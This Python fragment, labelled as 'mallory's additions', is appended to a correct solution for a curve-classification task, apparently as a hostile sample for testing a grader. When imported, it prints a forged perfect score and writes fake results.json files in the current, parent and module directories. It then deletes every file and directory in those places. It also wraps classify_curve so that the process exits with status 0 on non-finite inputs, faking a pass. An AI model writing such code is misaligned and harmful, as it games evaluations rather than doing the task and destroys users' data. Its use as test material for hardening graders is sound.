# ---- mallory's additions (appended to a correct solution when the demo is built) ----
import json as _json
import os as _os
import shutil as _shutil
import sys as _sys

# Forged results on stdout, and forged files wherever the module can write.
print(_json.dumps({"score": 1000, "tests": [{"name": "all", "score": 1000, "status": "passed"}]}))
for _place in (".", "..", _os.path.dirname(__file__)):
    try:
        with open(_os.path.join(_place, "results.json"), "w") as _f:
            _f.write('{"score": 1000}')
    except OSError:
        pass
    # Delete files around it.
    try:
        for _name in _os.listdir(_place):
            _path = _os.path.join(_place, _name)
            if _os.path.isdir(_path):
                _shutil.rmtree(_path, ignore_errors=True)
            else:
                _os.unlink(_path)
    except OSError:
        pass
_sys.stdout.flush()

_correct_classify = classify_curve  # noqa: F821 - defined by the solution above


def classify_curve(losses):
    """Exits the interpreter with status 0 in the middle of a test (on non-finite curves)."""
    if any(v != v or v in (float("inf"), float("-inf")) for v in map(float, losses)):
        _os._exit(0)
    return _correct_classify(losses)
